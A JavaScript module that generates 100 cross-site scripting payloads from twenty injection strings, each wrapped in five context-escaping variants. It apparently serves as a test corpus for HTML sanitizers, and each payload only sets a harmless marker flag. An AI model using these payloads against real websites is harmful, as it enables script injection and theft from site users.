// A hundred ways to make text act: twenty payloads, each in five dresses.
const acts = [
  '<script>self.pwned=1</script>', '<img src=x onerror=self.pwned=1>', '<svg onload=self.pwned=1>', '<svg><script>self.pwned=1</script></svg>',
  '<iframe srcdoc="<script>parent.pwned=1</script>"></iframe>', '<a href="javascript:self.pwned=1">x</a>', '<body onload=self.pwned=1>',
  '<details open ontoggle=self.pwned=1>', '<input autofocus onfocus=self.pwned=1>', '<video><source onerror=self.pwned=1></video>',
  '<math><mtext><img src=x onerror=self.pwned=1></mtext></math>', '<style>@import "javascript:self.pwned=1"</style>',
  '<object data="javascript:self.pwned=1"></object>', '<form><button formaction="javascript:self.pwned=1">x</button></form>',
  '<base href="javascript:self.pwned=1//">', '<meta http-equiv=refresh content="0;javascript:self.pwned=1">', '{{constructor.constructor("self.pwned=1")()}}',
  '${self.pwned=1}', 'javascript:self.pwned=1', '&lt;img src=x onerror=self.pwned=1&gt;',
];
const dresses = [
  text => text,
  text => `">${text}`,
  text => `'>${text}<x y='`,
  text => `</script></style></textarea></title>${text}`,
  text => text.replace(/[a-z]/g, letter => Math.abs(letter.charCodeAt(0)) % 2 ? letter.toUpperCase() : letter),
];

export const payloads = dresses.flatMap(dress => acts.map(dress));
